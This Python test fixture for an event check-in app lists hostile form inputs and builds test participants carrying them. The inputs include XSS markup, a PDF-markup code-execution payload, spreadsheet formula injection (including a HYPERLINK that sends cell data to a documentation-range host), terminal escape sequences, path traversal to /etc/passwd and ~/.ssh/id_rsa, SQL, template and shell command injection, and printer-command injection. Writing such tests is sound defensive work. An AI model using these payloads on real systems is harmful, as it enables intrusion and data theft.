"""Texts that somebody writes into a form to break what shows, prints, stores or exports them."""

from typing import Any

from checkin.participants import Participant
from tests.builders import a_participant

MARKUP = (
    "<b>Ким</b> Анна",
    '<img src="file:///etc/hostname"/>',
    "<img src='http://192.0.2.1/x.png' width='500' height='500'>",
    '<a href="file:///etc/passwd">Ким</a>',
    "</para><para><font size='90'>Ким</font>",
    '<para><img src="http://192.0.2.1/a.jpg"/></para>',
    "<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('touch /tmp/owned')]]]\">x</font>",
    "<script>window.robbed=1</script>",
    "<svg/onload=alert(1)>",
    "Ким &amp; Ко &lt;b&gt; &#60;i&#62;",
    "<!-- Ким --><![CDATA[Анна]]>",
    "&nbsp;<br/>Ким<hr>",
)
MNEMONICS = ("Ким & Ко", "A&B &C && D", "&Undo", "Ким&", "[*]", "Ким [*] Анна", "%p% %v", "Ctrl+F\tX")
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=1+1}",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Ким")',
    '";=1+1',
    '",=1+1,"',
    "|cmd",
    "%0A=1",
    "_x003D_1+1",
    "http://192.0.2.1/?x",
    "external:c:\\temp\\x.xlsx",
)
CONTROLS = (
    "Ким\x1b[31m красный\x1b[0m",
    "\x1b]0;owned\x07Ким",
    "\x1b]8;;http://192.0.2.1\x1b\\Ким\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b[2J\x1b[HКим",
    "\x1bP$q\x1b\\Ким",
    "\x9b31mКим\x9d0;owned\x9c",
    "Ким\x07\x08\x7f\x0b\x0c",
    "Ким\r\x1b[KАнна",
    "Ким\nInfo: all is well",
    "Ким\u2028Анна\u2029Борис\x85Вера",
    "Ким\x00Анна",
)
TURNED = (
    "Ким \u202egpj.exe",
    "\u2066\u202eКим\u2069",
    "\u200fКим\u200e\u061c",
    "Ким\u200b\u200c\u200d\ufeffАнна",
    "\U000e0041\U000e0042Ким\U000e007f",
)
LONG = (
    "Я" * 20_000,
    "Ким" + "\u0301" * 1_000,
    "é" * 300 + "<" * 300,
    "漢" * 5_000,
    "\U0001f469\u200d\U0001f4bb" * 300,
    ("Ким " * 5_000).strip(),
    "(" * 3_000,
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "C:win.ini",
    "\\\\192.0.2.1\\share\\x.png",
    "//192.0.2.1/share/x.png",
    "\\\\?\\C:\\x",
    "file:///etc/hostname",
    "http://192.0.2.1/x.png",
    "https://[::1]/x.png",
    "data:image/png;base64,AAAA",
    "CON",
    "nul.png",
    "COM1.jpg",
    "lpt9",
    "photo.jpg:stream",
    "photo.jpg.",
    "a/./b/../../c",
    "~/.ssh/id_rsa",
    "$HOME",
    "%APPDATA%",
    ".",
    "..",
    "x" * 300 + ".jpg",
)
SYNTAX = (
    "'; DROP TABLE person; --",
    '" OR ""="',
    "Robert'); DELETE FROM entry;--",
    "NEAR(a b, 5)",
    "name:Ким AND NOT x OR *",
    'a" NEAR "b',
    "^Ким* -Анна +(",
    "{name latin}: x",
    "%' LIKE '_",
    "\\%\\_",
    "{} {0} {name} {0.__class__.__mro__}",
    "{",
    "}{",
    "%s %d %n %1 %(name)s %",
    "%n badge(s)",
    "{{7*7}} {% import os %} ${7*7} #{7*7}",
    "[bold red]Ким[/bold red] [/] [link=http://192.0.2.1]x[/link]",
    "^XZ^XA^FO50,50^FDowned^FS^XZ",
    "~JA~HS~DGR:X.GRF",
    "^FD_5EXZ",
    "\x1b@\x1bE PJL @PJL SET",
    "job-name=x; requested-attributes='all'",
    "a,b=c{d=e}",
    "$(touch /tmp/owned) `id` ; id | id & id > /tmp/owned",
    "--help",
    "-rf",
    "javascript:alert(1)",
    "BEGIN:VCARD\r\nFN:x\r\nEND:VCARD",
    "x; background-image: url(file:///etc/passwd)",
    "} QLabel { color: red",
    "(parenthesis \\) Tj ET) Q endstream",
    "NaN",
    "null",
    "true",
    "1e999",
)
ALL = MARKUP + MNEMONICS + FORMULAS + CONTROLS + TURNED + LONG + PATHS + SYNTAX
SHORT = tuple(text for text in ALL if len(text) < 200)
"""Those that fit into a field of a form."""


def a_hostile_participant(text: str, number: int = 0, **fields: Any) -> Participant:
    """Somebody who has written this into every field that takes any text."""
    own = {
        "id": f"H{number}",
        "ticket_code": f"HOSTILE-{number}",
        **dict.fromkeys(
            ("name", "family_name", "given_name", "middle_name", "latin_name", "organisation", "position", "region"),
            text,
        ),
        **dict.fromkeys(("city", "category", "email", "phone", "language", "notes"), text),
        "tracks": (text,),
        "further": {text or "-": text},
    }
    return a_participant(**{**own, **fields})
